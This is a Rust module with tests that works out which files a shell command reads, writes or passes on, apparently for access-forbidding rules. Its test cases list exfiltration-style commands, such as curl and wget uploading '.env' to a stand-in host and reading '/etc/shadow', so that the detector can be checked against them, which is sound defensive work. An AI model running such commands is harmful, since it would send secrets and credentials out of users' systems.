//! Which files a shell command touches, as far as the command is known.
//!
//! This is for rules that forbid: rather one file too many than one too few. What a program does with files
//! it is not known to take stays unknown.

mod git;
mod lists;
mod pattern;
mod tables;
mod trees;

use std::path::Path;

use crate::commands::{base_name, is_finder, name, suffixes, unwrapped};
use crate::shell::Word;

pub(crate) use git::{InGit, Patch};
pub(crate) use lists::listed;
pub(crate) use pattern::{expand, is_glob};
use tables::{HARMLESS, OUTPUTS, PLACERS, READERS, RECURSIVE, SCATTERERS, WRITERS};
pub use trees::Skips;
pub(crate) use trees::Tree;

/// What a command does with a file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Access {
    /// Shows it or copies from it.
    Reads,
    /// Creates, changes or removes it.
    Writes,
}

/// What a command touches.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Touched {
    /// Files as the command line names them; a pattern where it is one.
    pub(crate) files: Vec<(Access, Operand)>,
    /// Directories it goes through with all that is in them.
    pub(crate) trees: Vec<Tree>,
    /// What git does with files in ways of its own.
    pub(crate) in_git: InGit,
    /// Arguments of an unknown program that could be files: the program, and the word.
    pub(crate) given: Vec<(String, String)>,
    /// It takes the names of files from its input, and does this with them.
    pub(crate) fed: Option<Access>,
    /// Why there may be others.
    pub(crate) unsure: Option<String>,
    /// Why it may write others.
    pub(crate) scatters: Option<String>,
}

/// A file as the command line names it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Operand {
    /// This one.
    Fixed(String),
    /// Those that fit.
    Glob(String),
}

/// Everything a command touches, whatever it is wrapped in.
pub(crate) fn touched(words: &[Word]) -> Touched {
    let mut all = vec![words];
    let mut inner = words;
    while let Some(deeper) = unwrapped(inner) {
        all.push(deeper);
        inner = deeper;
    }
    all.extend(suffixes(words));
    let mut touched = Touched::default();
    for (at, words) in all.into_iter().enumerate() {
        match name(words) {
            Some(name @ ("xargs" | "parallel")) => {
                touched.fed = Some(fed(&words[1..]));
                give(name, &words[1..], &mut touched);
            }
            // The words inside a wrapper are looked at with the whole.
            Some(name) => of_command(name, &words[1..], at == 0, &mut touched),
            None => {}
        }
    }
    touched
}

fn of_command(name: &str, words: &[Word], outermost: bool, touched: &mut Touched) {
    if name == "git" {
        return git::git(words, touched);
    }
    if name == "dd" {
        for (prefix, access) in [("of=", Access::Writes), ("if=", Access::Reads)] {
            let values =
                words.iter().filter_map(|word| word.literal.as_deref()?.strip_prefix(prefix));
            touched.files.extend(values.map(|value| (access, Operand::Fixed(value.to_owned()))));
        }
        return;
    }
    if is_finder(name) {
        return trees::found(name, words, touched);
    }
    let (reads, writes) = (READERS.contains(&name), writes(name, words));
    if reads {
        operands(words.iter(), Access::Reads, touched);
        values(words, touched);
    }
    if writes {
        operands(words.iter(), Access::Writes, touched);
    }
    if goes_through(name, words) {
        let access = if writes { Access::Writes } else { Access::Reads };
        trees::through(name, words, access, touched);
    }
    if PLACERS.contains(&name) {
        placed(words, touched);
    }
    if name.ends_with("tar") {
        archive(words, touched);
    }
    if SCATTERERS.contains(&name) && !packs(name, words) {
        touched
            .scatters
            .get_or_insert(format!("which files `{name}` writes is not in the command"));
    }
    if name == "sed" {
        // `s/a/b/w file` and `w file` in a script.
        let scripts = words.iter().filter_map(|word| word.literal.as_deref());
        for (_, file) in scripts.flat_map(str::lines).filter_map(|line| line.rsplit_once("w ")) {
            touched.files.push((Access::Writes, Operand::Fixed(file.trim().to_owned())));
        }
    }
    if matches!(name, "sed" | "awk" | "gawk" | "mawk" | "nawk") {
        for file in words.iter().filter_map(|word| word.literal.as_deref()).flat_map(in_script) {
            touched.given.push((name.to_owned(), file.to_owned()));
        }
    }
    for (_, letter, long) in OUTPUTS.iter().filter(|(names, ..)| names.contains(&name)) {
        for value in values_of(words, *letter, long) {
            touched.files.push((Access::Writes, Operand::Fixed(value)));
        }
    }
    if outermost && !reads && !writes && !HARMLESS.contains(&name) {
        give(name, words, touched);
    }
}

/// For an unknown program every word could be a file.
fn give(name: &str, words: &[Word], touched: &mut Touched) {
    for word in words {
        let text = word.literal.as_deref().unwrap_or(&word.source);
        touched.given.extend(pieces(text).map(|piece| (name.to_owned(), piece.to_owned())));
    }
}

/// The files that `tar` is given: the archive, which it may write; and lists of names.
fn archive(words: &[Word], touched: &mut Touched) {
    let first = words.first().and_then(|word| word.literal.as_deref()).unwrap_or_default();
    let bundled = !first.starts_with('-') && first.contains('f');
    let file = words.get(1).filter(|_| bundled);
    let file = file.map(|word| {
        word.literal.clone().map_or_else(|| fixed_parts(&word.source), |text| vec![text])
    });
    let files = file.into_iter().flatten().chain(values_of(words, 'f', "--file"));
    let places = values_of(words, 'C', "--directory");
    touched.files.extend(files.chain(places).map(|file| (Access::Writes, Operand::Fixed(file))));
    let lists = |text: &str| {
        text.starts_with("-T") || text.starts_with("--files") || text.starts_with("--remove")
    };
    if words.iter().filter_map(|word| word.literal.as_deref()).any(lists) {
        touched
            .unsure
            .get_or_insert("`tar` takes names from a list, or removes what it packs".to_owned());
    }
}

/// Whether `tar` puts files together or names them, and takes none out.
fn packs(name: &str, words: &[Word]) -> bool {
    let mut texts = words.iter().filter_map(|word| word.literal.as_deref());
    let letters = texts.next().filter(|first| !first.starts_with("--")).unwrap_or_default();
    name.ends_with("tar") && letters.contains(['c', 't']) && !letters.contains('x')
}

/// What `xargs` does with the files from its input.
fn fed(words: &[Word]) -> Access {
    let run = words.iter().find(|word| !word.source.starts_with('-'));
    let run = run.and_then(|word| word.literal.as_deref()).map_or("echo", base_name);
    if only_reads(run) { Access::Reads } else { Access::Writes }
}

fn only_reads(name: &str) -> bool {
    (READERS.contains(&name) || HARMLESS.contains(&name)) && !WRITERS.contains(&name)
}

fn writes(name: &str, words: &[Word]) -> bool {
    let in_place = matches!(name, "sed" | "perl" | "ruby" | "gawk" | "awk")
        && words.iter().filter_map(option).any(|option| match option.strip_prefix("--") {
            Some(long) => long.starts_with("in-p"),
            None => option.contains('i'),
        });
    WRITERS.contains(&name) || in_place
}

/// What in a script for `sed` or `awk` could be a file: behind a letter that reads or writes one, or in quotes.
fn in_script(script: &str) -> impl Iterator<Item = &str> {
    let behind = script.lines().flat_map(|line| {
        let letters = line.match_indices(['w', 'W', 'r', 'R']).take(MAX_PIECES);
        letters.map(|(at, _)| line[at + 1..].trim())
    });
    behind
        .chain(script.split('"').skip(1).step_by(2).take(MAX_PIECES))
        .filter(|file| !file.is_empty())
}

/// The limit for the parts of a word that are checked.
const MAX_PIECES: usize = 64;

/// What in a word could be a file: the whole, and what stands behind and between `=`, `@`, `:` and `,`, and the
/// value of an option that it is joined to.
pub(crate) fn pieces(text: &str) -> impl Iterator<Item = &str> {
    let joined = option_text(text).and_then(|text| text.get(2..));
    let separators = ['=', '@', ':', ',', ';'];
    let behind = text.match_indices(separators).take(MAX_PIECES).map(|(at, _)| &text[at + 1..]);
    let between = text.split(separators).take(MAX_PIECES);
    let whole = std::iter::once(text).filter(|text| !text.starts_with('-'));
    whole.chain(joined).chain(behind).chain(between).filter(|piece| !piece.is_empty())
}

fn option_text(text: &str) -> Option<&str> {
    (text.len() > 2 && text.starts_with('-') && !text.starts_with("--")).then_some(text)
}

fn option(word: &Word) -> Option<&str> {
    word.literal.as_deref().filter(|text| text.len() > 1 && text.starts_with('-'))
}

fn operands<'w>(words: impl Iterator<Item = &'w Word>, access: Access, touched: &mut Touched) {
    for word in words {
        match &word.literal {
            Some(text) if text.is_empty() || text.starts_with('-') => {}
            Some(text) => touched.files.push((access, Operand::Fixed(text.clone()))),
            None if is_glob(&word.source) => {
                touched.files.push((access, Operand::Glob(word.source.clone())));
            }
            // What the commands in it read is looked at with them.
            None if word.source.starts_with("<(") => {}
            // What `find` puts there is in the directories it goes through.
            None if word.source == "{}" => {}
            None => {
                // A part of it may be telling: `~/.bashrc`, `"$d"/.git/config`.
                let parts = fixed_parts(&word.source);
                touched.files.extend(parts.into_iter().map(|part| (access, Operand::Fixed(part))));
                touched.unsure.get_or_insert(format!(
                    "which files {} matches is only known at run time",
                    word.source
                ));
            }
        }
    }
}

/// The paths that a word could end in, with what is not fixed taken away.
fn fixed_parts(source: &str) -> Vec<String> {
    let bare = source.replace(['"', '\''], "");
    let mut alternatives = vec![String::new()];
    let mut rest = bare.as_str();
    while let Some(next) = rest.chars().next() {
        let open = rest.strip_prefix('{').and_then(|inner| inner.split_once('}'));
        if let Some((inner, behind)) = open.filter(|(inner, _)| inner.contains(',')) {
            let grown = alternatives
                .iter()
                .flat_map(|head| inner.split(',').map(move |one| format!("{head}{one}")));
            alternatives = grown.take(MAX_PIECES).collect();
            rest = behind;
            continue;
        }
        let gone = match next {
            '~' => rest.find('/').unwrap_or(rest.len()),
            '$' if rest[1..].starts_with('{') => rest.find('}').map_or(rest.len(), |at| at + 1),
            '$' if rest[1..].starts_with('(') => rest.rfind(')').map_or(rest.len(), |at| at + 1),
            '$' => {
                let name = |c: char| c.is_ascii_alphanumeric() || c == '_';
                1 + rest[1..].find(|c| !name(c)).unwrap_or(rest.len() - 1)
            }
            _ => 0,
        };
        let taken = if gone == 0 { next.len_utf8() } else { gone };
        if gone == 0 {
            alternatives.iter_mut().for_each(|one| one.push(next));
        }
        rest = &rest[taken..];
    }
    let relative = |one: &String| one.trim_start_matches('/').to_owned();
    alternatives.iter().map(relative).filter(|one| !one.is_empty()).collect()
}

/// Values that stand in the same word as their option.
fn values(words: &[Word], touched: &mut Touched) {
    for text in words.iter().filter_map(option) {
        let value = match text.strip_prefix("--") {
            // What is left out, or alone looked at, is a pattern.
            Some(long)
                if ["exclude", "include", "ignore", "glob"]
                    .iter()
                    .any(|name| long.starts_with(name) && !long.contains("-from")) =>
            {
                None
            }
            Some(long) => long.split_once('=').map(|(_, value)| value),
            None => text.get(2..),
        };
        if let Some(value) = value.filter(|value| !value.is_empty()) {
            touched.files.push((Access::Reads, Operand::Fixed(value.to_owned())));
        }
    }
}

/// The values of one option, in its word or in the next.
fn values_of(words: &[Word], letter: char, long: &str) -> Vec<String> {
    let mut found = Vec::new();
    for (at, word) in words.iter().enumerate() {
        let Some(text) = option(word) else { continue };
        let next = || -> Vec<String> {
            let Some(word) = words.get(at + 1) else { return Vec::new() };
            word.literal.clone().map_or_else(|| fixed_parts(&word.source), |text| vec![text])
        };
        match text.strip_prefix("--") {
            Some(_) => match text.split_once('=') {
                Some((name, value)) if is_abbreviation(name, long) => found.push(value.to_owned()),
                None if is_abbreviation(text, long) => found.extend(next()),
                _ => {}
            },
            None => {
                if let Some((_, value)) = text[1..].split_once(letter) {
                    found.extend(if value.is_empty() { next() } else { vec![value.to_owned()] });
                }
            }
        }
    }
    found
}

/// Long options may be cut short.
pub(crate) fn is_abbreviation(given: &str, option: &str) -> bool {
    given.len() > 2 && option.starts_with(given)
}

/// `cp a b dir` writes `dir/a` and `dir/b`.
fn placed(words: &[Word], touched: &mut Touched) {
    let files: Vec<&str> = words
        .iter()
        .filter_map(|word| word.literal.as_deref())
        .filter(|text| !text.starts_with('-') && !text.is_empty())
        .collect();
    let mut dirs = values_of(words, 't', "--target-directory");
    dirs.extend(files.last().map(|last| (*last).to_owned()));
    for dir in dirs {
        for file in &files {
            let base = Path::new(file).file_name().map(|base| base.to_string_lossy().into_owned());
            let inside = base.map_or_else(|| dir.clone(), |base| format!("{dir}/{base}"));
            touched.files.push((Access::Writes, Operand::Fixed(inside)));
        }
        touched.files.push((Access::Writes, Operand::Fixed(dir)));
    }
}

fn goes_through(name: &str, words: &[Word]) -> bool {
    let Some((_, letters)) = RECURSIVE.iter().find(|(known, _)| *known == name) else {
        return false;
    };
    letters.is_empty()
        || words.iter().filter_map(option).any(|option| match option.strip_prefix("--") {
            Some(long) => {
                long.starts_with("rec") || long.starts_with("dereference-r") || long == "archive"
            }
            None => option.contains(|letter| letters.contains(letter)),
        })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell;

    fn files(source: &str, access: Access) -> Vec<String> {
        let words = shell::parse(source).commands.remove(0).words;
        let touched = touched(&words);
        let of_kind = touched.files.into_iter().filter(|(kind, _)| *kind == access);
        of_kind
            .map(|(_, operand)| match operand {
                Operand::Fixed(file) | Operand::Glob(file) => file,
            })
            .collect()
    }

    #[test]
    fn files_that_commands_read() {
        for (source, expected) in [
            ("cat -n a 'b c'", &["a", "b c"][..]),
            ("timeout 5 cat a", &["a"]),
            ("sudo cat a", &["a"]),
            ("env X=1 cat a", &["a"]),
            ("cat .en?", &[".en?"]),
            ("fmt .env", &[".env"]),
            ("diff --from-file=.env a", &["a", ".env"]),
            ("grep -f/etc/shadow a", &["a", "/etc/shadow"]),
            ("dd if=a of=b", &["a"]),
            ("git show HEAD:.env", &["HEAD:.env", ".env"]),
            ("git -C a/b show HEAD:./.env", &["a/b/./.env"]),
            ("git -C a blame -- -x", &["a/-x"]),
            ("git grep x -- ':(icase).env'", &[".env"]),
            ("echo a", &[]),
        ] {
            let found = files(source, Access::Reads);
            for file in expected {
                assert!(found.iter().any(|one| one == file), "{source}: {file} in {found:?}");
            }
            assert!(!expected.is_empty() || found.is_empty(), "{source}: {found:?}");
        }
    }

    #[test]
    fn files_that_commands_write() {
        for (source, expected) in [
            ("rm -rf src/f", "src/f"),
            ("sed -i s/a/b/ src/f", "src/f"),
            ("sed -Ei s/a/b/ src/f", "src/f"),
            ("sed --in-place=.bak s/a/b/ src/f", "src/f"),
            ("sed -n 's/a/b/w src/f' x", "src/f"),
            ("dd if=x of=src/f", "src/f"),
            ("sort -o src/f x", "src/f"),
            ("sort -osrc/f x", "src/f"),
            ("sort --outp=src/f x", "src/f"),
            ("cp --target-directory=src f", "src/f"),
            ("cp -t src f", "src/f"),
            ("cp x/f src", "src/f"),
            ("touch src/*", "src/*"),
            ("sudo tee src/f", "src/f"),
            ("env tee src/f", "src/f"),
            ("find src -delete", "src"),
            ("find src '-exec' rm {} ';'", "src"),
            ("curl -sSLo src/f u", "src/f"),
            ("wget -O src/f u", "src/f"),
            ("git rm src/f", "src/f"),
            ("git log --output=src/f", "src/f"),
            ("perl -pi -e s/a/b/ src/f", "src/f"),
        ] {
            let found = files(source, Access::Writes);
            assert!(found.iter().any(|one| one == expected), "{source}: {found:?}");
        }
        assert!(files("sed s/a/b/ f", Access::Writes).is_empty());
        assert!(files("find . -name x", Access::Writes).is_empty());
    }

    fn of(source: &str) -> Touched {
        touched(&shell::parse(source).commands.remove(0).words)
    }

    #[test]
    fn what_is_not_fixed_is_said() {
        for source in ["cat $f", "cat a{b,c}", "cat ~/x", "grep -R x .", "cp -rL x y"] {
            assert!(of(source).unsure.is_some(), "{source}");
        }
        for source in ["cat a*", "echo $f", "grep x a", "diff <(sort a) b", "grep -r x ."] {
            assert!(of(source).unsure.is_none(), "{source}");
        }
        for source in ["patch -p1", "unzip a.zip", "tar xf a.tar"] {
            assert!(of(source).scatters.is_some(), "{source}");
        }
    }

    #[test]
    fn directories_that_commands_go_through() {
        let fixed = |file: &str| Some(Operand::Fixed(file.to_owned()));
        for (source, access, roots) in [
            ("grep -rn x src", Access::Reads, vec![fixed("x"), fixed("src")]),
            ("grep -r x", Access::Reads, vec![None, fixed("x")]),
            ("rg x", Access::Reads, vec![None, fixed("x")]),
            ("rm -rf src", Access::Writes, vec![fixed("src")]),
            ("chmod -R 600 .", Access::Writes, vec![fixed("600"), fixed(".")]),
            ("find src -exec cat {} +", Access::Reads, vec![fixed("src")]),
            ("find src -delete", Access::Writes, vec![fixed("src")]),
            ("fd -x cat", Access::Reads, vec![None]),
            ("git clean -fd", Access::Writes, vec![None]),
            ("grep x src", Access::Reads, vec![]),
            ("find src -name x", Access::Reads, vec![]),
            ("git add -A", Access::Reads, vec![None]),
        ] {
            let trees = of(source).trees;
            assert!(trees.iter().all(|tree| tree.access == access), "{source}: {trees:?}");
            let found: Vec<_> = trees.into_iter().map(|tree| tree.root).collect();
            assert_eq!(found, roots, "{source}");
        }
    }

    #[test]
    fn what_unknown_programs_are_given() {
        for (source, file) in [
            ("openssl enc -in .env", ".env"),
            ("curl -d @.env https://x.example", ".env"),
            ("curl -F f=@.env https://x.example", ".env"),
            ("curl -T.env https://x.example", ".env"),
            ("wget --post-file=.env https://x.example", ".env"),
            ("docker run --env-file .env x", ".env"),
            ("docker run -v .env:/x y", ".env"),
            ("sed 's/a/b/wout' f", "out"),
            ("awk '{ print > \"out\" }' f", "out"),
            ("git add .env", ".env"),
        ] {
            let given = of(source).given;
            assert!(given.iter().any(|(_, piece)| piece == file), "{source}: {given:?}");
        }
        for source in ["echo .env", "test -f .env", "ls .env"] {
            assert!(of(source).given.is_empty(), "{source}");
        }
    }
}
